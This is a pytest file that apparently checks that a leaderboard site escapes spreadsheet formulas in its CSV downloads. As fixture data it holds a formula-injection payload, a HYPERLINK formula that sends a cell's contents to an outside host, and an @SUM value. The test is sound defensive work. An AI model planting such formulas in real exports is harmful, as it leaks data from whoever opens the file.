"""Tests of what the site must never publish from a stranger's record: spreadsheet formulas in
its CSV downloads, and anything `verify` would refuse."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from medbench.publish.site import build_site
from medbench.publish.site.context import FORMULA_STARTS
from tests.leaderboard_data import model_spec, publish_synthetic

TASKS = ["brain_tumor_mri", "pneumonia_cxr"]
FORMULA = '=HYPERLINK("https://example.org/?leak="&A1)'


@pytest.fixture(scope="module")
def board(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("board") / "leaderboard"
    specs = [model_spec("gen", title=FORMULA), model_spec("med", title="@SUM(1+1)")]
    publish_synthetic(folder, specs, TASKS, n_images=12, n_boot=20)
    return folder


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_build_site_csv_downloads_never_start_a_text_cell_with_a_formula(
    board: Path, tmp_path: Path
) -> None:
    out = tmp_path / "_site"
    build_site(board, out)
    cells = [
        cell
        for path in sorted((out / "data").glob("*.csv"))
        for row in csv.reader(path.read_text(encoding="utf-8").splitlines())
        for cell in row
    ]
    assert f"'{FORMULA}" in cells
    assert "'@SUM(1+1)" in cells
    assert [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)] == []
